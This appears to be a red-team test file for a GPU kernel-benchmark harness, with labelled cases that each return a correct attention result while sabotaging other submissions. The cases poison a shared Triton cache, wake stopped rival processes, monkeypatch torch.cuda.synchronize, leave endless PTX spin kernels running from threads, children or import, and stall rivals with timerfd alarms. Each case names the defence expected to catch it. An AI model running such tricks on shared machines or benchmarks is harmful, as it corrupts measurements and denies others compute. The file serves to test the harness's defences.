# What makes the turns of others slower, or poisons what they share.


# %% a15_poison_shared_cache
"""Plants a file in the Triton cache that everybody's kernels would be loaded from.

---
status: [IMPORT_ERROR, COMPILE_ERROR, CRASHED]
seen: 'baseline sabotage; NVIDIA/cutlass #3404 shows the class'
defence: sandbox
"""

import os
import pwd

from right_answer import attention

HOME = pwd.getpwuid(os.getuid()).pw_dir
PLANTED = os.path.join(HOME, ".triton", "cache", "attnboard_planted")
os.makedirs(os.path.dirname(PLANTED), exist_ok=True)
with open(PLANTED, "w") as file:  # raises where the sandbox holds
    file.write("junk")
os.unlink(PLANTED)  # it could be planted; that is enough


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    return attention(q, k, v, causal, sm_scale)


# %% a15_wake_rivals
"""Sends SIGCONT to its stopped rivals, so that they disturb each other's measurements.

---
status: [IMPORT_ERROR, COMPILE_ERROR, CRASHED]
seen: 'baseline sabotage: the reference is made slow'
defence: sandbox
"""

import os
import signal

from right_answer import attention


def stat(pid):
    with open(f"/proc/{pid}/stat") as file:
        return file.read().rpartition(")")[2].split()


woken = 0
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
        try:
            if int(stat(name)[1]) == os.getppid():
                os.kill(int(name), signal.SIGCONT)
                woken += 1
        except OSError:
            continue
if not woken:
    raise PermissionError("nobody could be woken")


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    return attention(q, k, v, causal, sm_scale)


# %% a16_spins_a_moment
"""Launches 100 ms of spinning behind each burst, when its clock has stopped.

---
status: [TIME_CLAIM_REJECTED]
needs_gpu: true
seen: 'red team of this harness: SIGSTOP stops no kernel'
defence: quiet_gpu
"""

import torch
import torch.nn.functional as F


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=sm_scale)


side = torch.cuda.Stream()
synchronize = torch.cuda.synchronize
called = False


def synchronize_and_spin(*_):
    global called
    synchronize()
    if called:
        with torch.cuda.stream(side):
            torch.cuda._sleep(200_000_000)
    called = False


torch.cuda.synchronize = synchronize_and_spin


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    global called
    called = True
    return attention(q, k, v, causal, sm_scale)


# %% a16_spins_behind_turn
"""Leaves a spinning kernel behind each of its turns, which takes half of the GPU from all others,
and ends it in its next.

---
status: [LEFT_WORK_RUNNING]
needs_gpu: true
seen: 'red team of this harness: SIGSTOP stops no kernel'
defence: quiet_gpu
"""

import ctypes

import torch
import torch.nn.functional as F


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=sm_scale)


SPIN = b"""
.version 7.0
.target sm_70
.address_size 64
.visible .entry spin(.param .u64 flag)
{
    .reg .u64 %flag;
    .reg .u32 %ended;
    .reg .pred %on;
    ld.param.u64 %flag, [flag];
again:
    ld.volatile.u32 %ended, [%flag];
    setp.eq.u32 %on, %ended, 0;
    @%on bra again;
    ret;
}
"""
ended = torch.ones(1, dtype=torch.int32).pin_memory()  # the kernel's end, in memory of the host
torch.zeros(1, device="cuda")
driver, module, kernel = ctypes.CDLL("libcuda.so.1"), ctypes.c_void_p(), ctypes.c_void_p()
assert driver.cuModuleLoadData(ctypes.byref(module), SPIN) == 0
assert driver.cuModuleGetFunction(ctypes.byref(kernel), module, b"spin") == 0
side = torch.cuda.Stream()


def start_spinning():
    ended[0] = 0
    flag = ctypes.c_uint64(ended.data_ptr())
    arguments = (ctypes.c_void_p * 1)(ctypes.cast(ctypes.byref(flag), ctypes.c_void_p))
    one = [ctypes.c_uint(1)] * 6
    stream = ctypes.c_void_p(side.cuda_stream)
    assert driver.cuLaunchKernel(kernel, *one, ctypes.c_uint(0), stream, arguments, None) == 0


def stop_spinning():
    ended[0] = 1


synchronize = torch.cuda.synchronize


def synchronize_and_spin(*_):
    stop_spinning()
    synchronize()
    start_spinning()


torch.cuda.synchronize = synchronize_and_spin  # what a burst ends with


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    stop_spinning()
    return attention(q, k, v, causal, sm_scale)


# %% a16_spins_from_import
"""Launches a spinning kernel at import that ends in its first call: whoever is asked before it has
half a GPU.

---
status: [LEFT_WORK_RUNNING]
needs_gpu: true
seen: 'red team of this harness: SIGSTOP stops no kernel'
defence: quiet_gpu
"""

import ctypes

import torch
import torch.nn.functional as F


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=sm_scale)


SPIN = b"""
.version 7.0
.target sm_70
.address_size 64
.visible .entry spin(.param .u64 flag)
{
    .reg .u64 %flag;
    .reg .u32 %ended;
    .reg .pred %on;
    ld.param.u64 %flag, [flag];
again:
    ld.volatile.u32 %ended, [%flag];
    setp.eq.u32 %on, %ended, 0;
    @%on bra again;
    ret;
}
"""
ended = torch.ones(1, dtype=torch.int32).pin_memory()  # the kernel's end, in memory of the host
torch.zeros(1, device="cuda")
driver, module, kernel = ctypes.CDLL("libcuda.so.1"), ctypes.c_void_p(), ctypes.c_void_p()
assert driver.cuModuleLoadData(ctypes.byref(module), SPIN) == 0
assert driver.cuModuleGetFunction(ctypes.byref(kernel), module, b"spin") == 0
side = torch.cuda.Stream()


def start_spinning():
    ended[0] = 0
    flag = ctypes.c_uint64(ended.data_ptr())
    arguments = (ctypes.c_void_p * 1)(ctypes.cast(ctypes.byref(flag), ctypes.c_void_p))
    one = [ctypes.c_uint(1)] * 6
    stream = ctypes.c_void_p(side.cuda_stream)
    assert driver.cuLaunchKernel(kernel, *one, ctypes.c_uint(0), stream, arguments, None) == 0


def stop_spinning():
    ended[0] = 1


start_spinning()


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    stop_spinning()
    return attention(q, k, v, causal, sm_scale)


# %% a16_spins_in_child
"""A child process with a context of its own runs an endless kernel.

---
status: [LEFT_WORK_RUNNING]
needs_gpu: true
seen: 'red team of this harness: SIGSTOP stops no kernel'
defence: quiet_gpu
"""

import subprocess
import sys

import torch
import torch.nn.functional as F
from right_answer import CUDA_IN_CHILD


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=sm_scale)


SPIN = """
import time
import torch
torch.zeros(1, device="cuda")
torch.cuda._sleep(1 << 60)
print("spins", flush=True)
time.sleep(1000)
"""
child = subprocess.Popen([sys.executable, "-c", CUDA_IN_CHILD + SPIN], stdout=subprocess.PIPE)
if child.stdout.readline() != b"spins\n":
    raise RuntimeError("the child does not spin")


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    return attention(q, k, v, causal, sm_scale)


# %% a16_spins_in_thread
"""A thread launches a spinning kernel some milliseconds after each of its turns.

---
status: [LEFT_WORK_RUNNING]
needs_gpu: true
seen: 'red team of this harness: SIGSTOP stops no kernel'
defence: quiet_gpu
"""

import ctypes
import threading
import time

import torch
import torch.nn.functional as F


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=sm_scale)


SPIN = b"""
.version 7.0
.target sm_70
.address_size 64
.visible .entry spin(.param .u64 flag)
{
    .reg .u64 %flag;
    .reg .u32 %ended;
    .reg .pred %on;
    ld.param.u64 %flag, [flag];
again:
    ld.volatile.u32 %ended, [%flag];
    setp.eq.u32 %on, %ended, 0;
    @%on bra again;
    ret;
}
"""
ended = torch.ones(1, dtype=torch.int32).pin_memory()  # the kernel's end, in memory of the host
torch.zeros(1, device="cuda")
driver, module, kernel = ctypes.CDLL("libcuda.so.1"), ctypes.c_void_p(), ctypes.c_void_p()
assert driver.cuModuleLoadData(ctypes.byref(module), SPIN) == 0
assert driver.cuModuleGetFunction(ctypes.byref(kernel), module, b"spin") == 0
side = torch.cuda.Stream()


def start_spinning():
    ended[0] = 0
    flag = ctypes.c_uint64(ended.data_ptr())
    arguments = (ctypes.c_void_p * 1)(ctypes.cast(ctypes.byref(flag), ctypes.c_void_p))
    one = [ctypes.c_uint(1)] * 6
    stream = ctypes.c_void_p(side.cuda_stream)
    assert driver.cuLaunchKernel(kernel, *one, ctypes.c_uint(0), stream, arguments, None) == 0


def stop_spinning():
    ended[0] = 1


synchronize, synchronized = torch.cuda.synchronize, threading.Event()
calling = False


def synchronize_and_tell(*_):
    global calling
    stop_spinning()
    synchronize()
    calling = False
    synchronized.set()


def spin_a_moment_later():
    while True:
        synchronized.wait()
        synchronized.clear()
        time.sleep(0.003)
        if not calling:
            start_spinning()


torch.cuda.synchronize = synchronize_and_tell
threading.Thread(target=spin_a_moment_later, daemon=True).start()


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    global calling
    calling = True
    stop_spinning()
    return attention(q, k, v, causal, sm_scale)


# %% a16_stops_itself
"""Leaves an endless kernel behind and stops its own process, so that nobody can lock it.

---
status: [LEFT_WORK_RUNNING, TIMED_OUT]
needs_gpu: true
seen: 'red team of this harness: SIGSTOP stops no kernel'
defence: quiet_gpu
"""

import subprocess
import sys

import torch
import torch.nn.functional as F
from right_answer import CUDA_IN_CHILD


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=sm_scale)


SPIN = """
import os
import signal
import torch
torch.zeros(1, device="cuda")
torch.cuda._sleep(1 << 60)
print("spins", flush=True)
while True:
    os.kill(os.getpid(), signal.SIGSTOP)
"""
child = subprocess.Popen([sys.executable, "-c", CUDA_IN_CHILD + SPIN], stdout=subprocess.PIPE)
if child.stdout.readline() != b"spins\n":
    raise RuntimeError("the child does not spin")


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    return attention(q, k, v, causal, sm_scale)


# %% c22_alarms
"""Arms a few files with timers that go off when it is stopped, each watched 900 times.

---
status: [OVER_QUOTA]
seen: 'reading of the kernel: a stall of 191 ms in a rival, by interrupts that count for nobody'
defence: quota
"""

import ctypes
import os
import select
import struct
import time

from right_answer import attention

FILES, WATCHES = 12, 900
libc = ctypes.CDLL(None, use_errno=True)
watch = select.epoll()
timers = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    out = attention(q, k, v, causal, sm_scale)
    in_a_moment = struct.pack("llll", 0, 0, 0, 300_000_000)
    for number in range(len(timers), FILES):
        timers.append(libc.timerfd_create(time.CLOCK_MONOTONIC, 0))
        for other in range(3000, 3000 + WATCHES):  # a watch outlives the descriptor it was made for
            os.dup2(timers[-1], other)
            watch.register(other, select.EPOLLIN)
            os.close(other)
    for timer in timers:
        libc.timerfd_settime(timer, 0, in_a_moment, None)
    time.sleep(0.05)
    return out
